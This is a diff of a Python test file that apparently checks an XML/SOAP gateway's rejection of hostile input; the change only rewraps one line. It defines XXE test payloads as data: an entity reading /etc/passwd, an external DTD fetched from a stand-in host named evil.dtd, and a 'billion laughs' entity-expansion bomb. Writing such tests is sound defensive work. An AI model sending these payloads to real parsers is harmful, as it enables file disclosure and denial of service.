@@ -70,7 +70,8 @@ async def test_a_plain_utf8_envelope_is_accepted(http: httpx.AsyncClient, gatewa
 
 XXE = ('<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + envelope(submit("<order><infoid>&xxe;</infoid></order>")))
-EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE soap:Envelope SYSTEM "http://198.51.100.7/evil.dtd">' + envelope(submit())
+EXTERNAL_DTD = ('<?xml version="1.0"?><!DOCTYPE soap:Envelope SYSTEM "http://198.51.100.7/evil.dtd">'
+                + envelope(submit()))
 BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                   + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                             for i in range(1, 10))
